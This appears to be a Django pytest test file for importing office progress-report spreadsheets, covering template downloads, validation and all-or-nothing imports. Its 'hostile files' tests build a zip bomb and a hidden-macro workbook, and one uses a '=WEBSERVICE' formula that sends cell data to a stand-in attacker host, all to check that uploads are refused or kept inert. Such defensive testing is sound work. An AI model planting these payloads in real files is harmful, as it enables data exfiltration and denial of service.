"""The spreadsheet round trip: an office downloads its template, fills it offline (openpyxl here, as Excel would),
previews the import, imports it all or nothing through the services, and reads the values back through the API."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from tests.helpers import item, office, period
from tracking.models import Obligation, Report, TargetValue
from tracking.spreadsheets import FIRST_DATA_ROW, KEY_ROW

pytestmark = pytest.mark.django_db

TEMPLATE = reverse("report-template")
IMPORT = reverse("report-import")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def download(client, **params):
    response = client.get(TEMPLATE, params)
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"] == XLSX
    return load_workbook(io.BytesIO(response.content))


def columns(sheet) -> dict[str, int]:
    """{key: column index (1-based)} from the hidden row of keys."""
    return {cell.value: cell.column for cell in sheet[KEY_ROW] if cell.value}


def rows_by_code(sheet) -> dict[str, int]:
    keys = columns(sheet)
    return {
        sheet.cell(row=r, column=keys["code"]).value: r
        for r in range(FIRST_DATA_ROW, sheet.max_row + 1)
        if sheet.cell(row=r, column=keys["code"]).value
    }


def as_file(workbook, name="filled.xlsx"):
    output = io.BytesIO()
    workbook.save(output)
    output.seek(0)
    output.name = name
    return output


def upload(client, file, **data):
    return client.post(IMPORT, {"file": file, **data}, format="multipart")


def fill(sheet, code, *, status="On track", percent=40, summary="Done half.", targets=None):
    keys, row = columns(sheet), rows_by_code(sheet)[code]
    sheet.cell(row=row, column=keys["status"]).value = status
    sheet.cell(row=row, column=keys["percent_complete"]).value = percent
    sheet.cell(row=row, column=keys["summary"]).value = summary
    for target_id, value in (targets or {}).items():
        sheet.cell(row=row, column=keys[f"target:{target_id}"]).value = value
    return row


def test_template_has_one_row_per_obligation_locked_reference_and_hidden_keys(client_for):
    workbook = download(client_for("guangdong"), period=period("2012-Q2").pk)
    sheet = workbook.worksheets[0]
    keys = columns(sheet)
    expected = Obligation.objects.filter(office=office("Guangdong"), period=period("2012-Q2"))
    ids = {sheet.cell(row=r, column=keys["obligation_id"]).value for r in range(FIRST_DATA_ROW, sheet.max_row + 1)}
    assert ids == set(expected.values_list("pk", flat=True))
    assert len(ids) == expected.count() > 10
    # Headers in English, keys hidden; reference cells locked, the cells to fill open; protection without password.
    assert sheet.cell(row=1, column=keys["percent_complete"]).value == "Percent complete"
    assert sheet.row_dimensions[KEY_ROW].hidden
    assert sheet.column_dimensions["A"].hidden and sheet.column_dimensions["B"].hidden
    assert sheet.protection.sheet and not sheet.protection.password
    row = FIRST_DATA_ROW
    assert sheet.cell(row=row, column=keys["code"]).protection.locked
    assert not sheet.cell(row=row, column=keys["summary"]).protection.locked
    # A target column is headed by its description and figure; open only on its item's row.
    target = item("IV.2").targets.get()
    header = sheet.cell(row=1, column=keys[f"target:{target.pk}"]).value
    assert header == f"{target.description} (target: about {target.quantity:,})" or header.startswith(
        target.description
    )
    iv2 = rows_by_code(sheet)["IV.2"]
    assert not sheet.cell(row=iv2, column=keys[f"target:{target.pk}"]).protection.locked
    assert sheet.cell(row=FIRST_DATA_ROW, column=keys[f"target:{target.pk}"]).protection.locked or (
        iv2 == FIRST_DATA_ROW
    )
    # Drop-down of statuses and 0–100 on the percent column.
    validations = {dv.type: dv for dv in sheet.data_validations.dataValidation}
    assert "On track" in validations["list"].formula1
    assert [(dv.formula1, dv.formula2) for dv in sheet.data_validations.dataValidation if dv.operator == "between"] == [
        ("0", "100")
    ]
    assert workbook.sheetnames[1] == "Instructions"


def test_template_headers_in_chinese(client_for):
    response = client_for("guangdong").get(TEMPLATE, {"period": period("2012-Q2").pk}, HTTP_ACCEPT_LANGUAGE="zh-hans")
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    keys = columns(sheet)
    assert sheet.cell(row=1, column=keys["status"]).value == "进展状态"
    assert "进展正常" in {dv.type: dv for dv in sheet.data_validations.dataValidation}["list"].formula1


def test_template_shows_previous_period(client_for, make_report, accounts):
    target = item("IV.2").targets.get()
    from tracking import services

    services.report_create(
        user=accounts["guangdong"],
        work_item=item("IV.2"),
        period=period("2012-Q1"),
        fields={"status": "at_risk", "percent_complete": 20, "summary": "Slow start."},
        target_values=[(target.pk, 7)],
    )
    sheet = download(client_for("guangdong"), period=period("2012-Q2").pk).worksheets[0]
    keys, row = columns(sheet), rows_by_code(sheet)["IV.2"]
    assert sheet.cell(row=row, column=keys["previous_status"]).value == "At risk"
    assert sheet.cell(row=row, column=keys["previous_percent"]).value == 20
    assert sheet.cell(row=row, column=keys["previous_targets"]).value == f"{target.description}: 7"


def test_round_trip_dry_run_import_read_back_and_second_import_changes_nothing(client_for):
    client = client_for("guangdong")
    q2 = period("2012-Q2")
    workbook = download(client, period=q2.pk)
    sheet = workbook.worksheets[0]
    target = item("IV.2").targets.get()
    fill(sheet, "IV.2", percent=60, summary="Twelve enterprises fostered.", targets={target.pk: 12})
    fill(sheet, "I.1", status="Completed", percent=100, summary="Guidelines issued.")
    sheet.cell(row=rows_by_code(sheet)["I.1"], column=columns(sheet)["problems"]).value = '=HYPERLINK("x")'

    # The preview: every row checked, nothing written.
    response = upload(client, as_file(workbook), dry_run="true")
    assert response.status_code == 200, response.json()
    body = response.json()
    assert (body["dry_run"], body["valid"], body["written"]) == (True, True, False)
    assert body["counts"]["create"] == 2 and body["counts"]["update"] == 0
    assert not Report.objects.exists()

    # The import.
    response = upload(client, as_file(workbook))
    assert response.status_code == 200, response.json()
    assert response.json()["written"] is True
    listed = client.get(reverse("report-list"), {"period": q2.pk, "office": office("Guangdong").pk}).json()["results"]
    by_code = {r["work_item"]["code"]: r for r in listed}
    assert set(by_code) == {"IV.2", "I.1"}
    assert (by_code["IV.2"]["status"], by_code["IV.2"]["percent_complete"]) == ("on_track", 60)
    assert by_code["IV.2"]["summary"] == "Twelve enterprises fostered."
    assert by_code["IV.2"]["target_values"] == [{"target": target.pk, "value": 12}]
    assert (by_code["I.1"]["status"], by_code["I.1"]["state"]) == ("completed", "draft")
    # A formula is read as its text, never evaluated.
    assert by_code["I.1"]["problems"] == '=HYPERLINK("x")'
    history = Report.history.count()

    # The same file again: nothing changes (the versions in it are stale, but no value differs).
    response = upload(client, as_file(workbook))
    assert response.status_code == 200, response.json()
    counts = response.json()["counts"]
    assert (counts["create"], counts["update"], counts["unchanged"], counts["submit"]) == (0, 0, 2, 0)
    assert Report.history.count() == history


def test_submit_all_submits_the_imported_reports(client_for):
    client = client_for("guangdong")
    workbook = download(client, period=period("2012-Q2").pk)
    fill(workbook.worksheets[0], "I.1")
    response = upload(client, as_file(workbook), submit="true")
    assert response.status_code == 200, response.json()
    assert list(Report.objects.values_list("state", flat=True)) == ["submitted"]
    assert response.json()["counts"]["submit"] == 1


def test_one_bad_row_writes_nothing_and_names_row_and_column(client_for):
    client = client_for("guangdong")
    workbook = download(client, period=period("2012-Q2").pk)
    sheet = workbook.worksheets[0]
    keys = columns(sheet)
    fill(sheet, "I.1")
    bad = fill(sheet, "IV.2", percent=140)
    response = upload(client, as_file(workbook))
    assert response.status_code == 400
    body = response.json()
    assert body["written"] is False
    letter = sheet.cell(row=1, column=keys["percent_complete"]).column_letter
    assert [(e["row"], e["column"], e["field"]) for e in body["errors"]] == [(bad, letter, "percent_complete")]
    assert "140" in body["errors"][0]["message"]
    assert not Report.objects.exists()


@pytest.mark.parametrize(
    ("key", "value", "message"),
    [
        ("status", "Finished", "is not a status"),
        ("percent_complete", "half", "is not a percent"),
        ("target", "twelve", "is not a number"),
        ("target", "=6*2", "is not a number"),
        ("obligation_id", 999999, "not one of your organisation"),
    ],
)
def test_each_bad_cell_is_named(client_for, key, value, message):
    client = client_for("guangdong")
    workbook = download(client, period=period("2012-Q2").pk)
    sheet = workbook.worksheets[0]
    target = item("IV.2").targets.get()
    row = fill(sheet, "IV.2")
    key = f"target:{target.pk}" if key == "target" else key
    sheet.cell(row=row, column=columns(sheet)[key]).value = value
    response = upload(client, as_file(workbook))
    assert response.status_code == 400
    errors = response.json()["errors"]
    assert [(e["row"], e["field"]) for e in errors] == [(row, key)]
    assert message in errors[0]["message"]


def test_foreign_obligation_is_refused(client_for):
    """Hunan's template uploaded by Guangdong: every row is another organisation's."""
    workbook = download(client_for("hunan"), period=period("2012-Q2").pk)
    fill(workbook.worksheets[0], "I.1")
    response = upload(client_for("guangdong"), as_file(workbook))
    assert response.status_code == 400
    assert {e["field"] for e in response.json()["errors"]} == {"obligation_id"}
    assert not Report.objects.exists()


def test_stale_version_is_refused(client_for, make_report, accounts):
    report = make_report(code="I.1", label="2012-Q2")
    client = client_for("guangdong")
    workbook = download(client, period=period("2012-Q2").pk)
    from tracking import services

    services.report_update(
        report=report, user=accounts["guangdong"], version=report.version, fields={"percent_complete": 50}
    )
    row = fill(workbook.worksheets[0], "I.1", percent=70)
    response = upload(client, as_file(workbook))
    assert response.status_code == 400
    assert [(e["row"], e["field"]) for e in response.json()["errors"]] == [(row, "version")]
    report.refresh_from_db()
    assert report.percent_complete == 50


def test_update_of_a_draft_through_the_template(client_for, make_report):
    report = make_report(code="I.1", label="2012-Q2")
    client = client_for("guangdong")
    workbook = download(client, period=period("2012-Q2").pk)
    fill(workbook.worksheets[0], "I.1", percent=75, summary="Further along.")
    response = upload(client, as_file(workbook))
    assert response.status_code == 200, response.json()
    assert response.json()["counts"]["update"] == 1
    report.refresh_from_db()
    assert (report.percent_complete, report.summary, report.version) == (75, "Further along.", 2)
    assert report.history.first().history_change_reason == "edit"


def test_analyst_cannot_import_nor_download_a_template(client_for):
    assert client_for("analyst").get(TEMPLATE).status_code == 400  # no organisation to template
    workbook = download(client_for("guangdong"), period=period("2012-Q2").pk)
    assert upload(client_for("analyst"), as_file(workbook)).status_code == 403


def test_template_of_another_office_is_refused_except_to_administrators(client_for):
    hunan = office("Hunan").pk
    assert client_for("guangdong").get(TEMPLATE, {"office": hunan}).status_code == 403
    sheet = download(client_for("admin"), office=hunan, period=period("2012-Q2").pk).worksheets[0]
    keys = columns(sheet)
    assert sheet.cell(row=FIRST_DATA_ROW, column=keys["organisation"]).value == "Hunan"


def test_csv_with_the_same_columns_is_accepted(client_for):
    client = client_for("guangdong")
    workbook = download(client, period=period("2012-Q2").pk)
    sheet = workbook.worksheets[0]
    fill(sheet, "I.1", summary="由 CSV 导入。")
    text = io.StringIO()
    writer = csv.writer(text)
    for row in sheet.iter_rows(values_only=True):
        writer.writerow(["" if v is None else v for v in row])
    file = io.BytesIO(text.getvalue().encode("gb18030"))  # as Excel in Chinese saves it
    file.name = "filled.csv"
    response = upload(client, file)
    assert response.status_code == 200, response.json()
    assert Report.objects.get().summary == "由 CSV 导入。"


# --- Hostile files ------------------------------------------------------------------------------------------------


def refused(client, file):
    response = upload(client, file)
    assert response.status_code == 400, response.content
    assert not Report.objects.exists() and not TargetValue.objects.exists()
    return " ".join(response.json()["file"])


def test_macro_workbook_is_refused(client_for):
    client = client_for("guangdong")
    workbook = download(client, period=period("2012-Q2").pk)
    fill(workbook.worksheets[0], "I.1")
    raw = as_file(workbook).getvalue()
    output = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as source, zipfile.ZipFile(output, "w") as target:
        for member in source.infolist():
            target.writestr(member, source.read(member))
        target.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")
    output.seek(0)
    output.name = "filled.xlsx"  # the name hides what it is
    assert "macros" in refused(client, output)
    named = as_file(workbook, name="filled.xlsm")
    assert "macros" in refused(client, named)


def test_zip_bomb_is_refused_before_parsing(client_for):
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (60 * 1024 * 1024))  # 60 MB of zeros, 60 kB packed
    assert len(output.getvalue()) < 200_000
    output.seek(0)
    output.name = "bomb.xlsx"
    assert "too large once unpacked" in refused(client_for("guangdong"), output)


def test_oversized_file_is_refused(client_for):
    file = io.BytesIO(b"obligation_id,status\n" + b"1,On track\n" * 600_000)  # 6.6 MB
    file.name = "big.csv"
    assert "too large" in refused(client_for("guangdong"), file)


def test_100k_rows_are_refused(client_for):
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append(["obligation_id", "status"])
    for number in range(100_000):
        sheet.append([number + 1, "On track"])
    output = io.BytesIO()
    workbook.save(output)
    output.seek(0)
    output.name = "many.xlsx"
    assert "more than 5000 rows" in refused(client_for("guangdong"), output)


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"%PDF-1.4\n1 0 obj<<>>endobj\n", "filled.xlsx"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "filled.xls"),
        (b"PK\x03\x04not really a zip", "filled.xlsx"),
        (b"just some text without keys", "filled.csv"),
    ],
)
def test_files_that_are_not_templates_are_refused(client_for, content, name):
    file = io.BytesIO(content)
    file.name = name
    refused(client_for("guangdong"), file)


def test_formula_cells_are_never_evaluated(client_for):
    """A formula in a number column is refused (it is no number); in a text column it is kept as its text."""
    client = client_for("guangdong")
    workbook = download(client, period=period("2012-Q2").pk)
    sheet = workbook.worksheets[0]
    row = fill(sheet, "I.1", summary='=WEBSERVICE("http://evil.example/"&A1)')
    sheet.cell(row=row, column=columns(sheet)["percent_complete"]).value = "=20+20"
    response = upload(client, as_file(workbook))
    assert [(e["field"], e["row"]) for e in response.json()["errors"]] == [("percent_complete", row)]
    sheet.cell(row=row, column=columns(sheet)["percent_complete"]).value = 40
    response = upload(client, as_file(workbook))
    assert response.status_code == 200, response.json()
    assert Report.objects.get().summary == '=WEBSERVICE("http://evil.example/"&A1)'


def test_template_queries_do_not_grow_with_reports(client_for, accounts):
    """Queries: the office; the quarters; the obligations with their reports; the reports' target values; the
    previous periods' reports and their target values; the targets. The same count with one item reported in two
    quarters as with four items reported in four quarters."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from tests.factories import bulk_reports

    client = client_for("guangdong")
    quarters = [period(f"2012-Q{n}") for n in (1, 2, 3, 4)]

    def count():
        with CaptureQueriesContext(connection) as captured:
            download(client, year=2012)
        return len(captured)

    bulk_reports(items=[item("IV.2")], periods=quarters[:2], share=1.0)
    small = count()
    bulk_reports(items=[item("I.1"), item("II.3"), item("I.2")], periods=quarters, share=1.0)
    bulk_reports(items=[item("IV.2")], periods=quarters[2:], share=1.0)
    assert Report.objects.filter(office=office("Guangdong")).count() >= 12
    assert count() == small


def test_a_locked_period_is_named_on_its_rows_and_nothing_is_written(client_for):
    """Period locks (tracking.locks) reach the import through the services: the row says why, nothing is kept."""
    client = client_for("guangdong")
    workbook = download(client, period=period("2012-Q2").pk)
    row = fill(workbook.worksheets[0], "I.1")
    fill(workbook.worksheets[0], "IV.2")
    plan = period("2012-Q2").plan
    plan.close_after_days = 30  # Q2, due 2012-07-15, closes after 2012-08-14
    plan.save()
    response = upload(client, as_file(workbook), dry_run="true")
    assert response.status_code == 400
    errors = response.json()["errors"]
    assert len(errors) == 2 and errors[0]["row"] == row and errors[0]["column"] == ""
    assert "The period 2012-Q2 closed on 2012-08-14" in errors[0]["message"]
    assert not Report.objects.exists()


def test_template_refuses_unknown_query_parameters(client_for):
    response = client_for("guangdong").get(TEMPLATE, {"perod": period("2012-Q2").pk})
    assert response.status_code == 400
    assert "perod" in response.json()


@pytest.mark.parametrize("key", ["target:²", "target:99999999999999999999", "target:٣"])
def test_a_column_keyed_like_a_target_but_not_by_an_id_is_ignored(client_for, key):
    """ "²" passes str.isdigit() and fails int(): the key row is the client's to write (a 500 before)."""
    client = client_for("guangdong")
    workbook = download(client, period=period("2012-Q2").pk)
    sheet = workbook.worksheets[0]
    row = fill(sheet, "I.1", summary="Guidelines issued.")
    extra = sheet.max_column + 1
    sheet.cell(row=KEY_ROW, column=extra).value = key
    sheet.cell(row=row, column=extra).value = 7
    response = upload(client, as_file(workbook))
    assert response.status_code == 200, response.content[:500]
    assert Report.objects.get().summary == "Guidelines issued."
    assert not TargetValue.objects.exists()
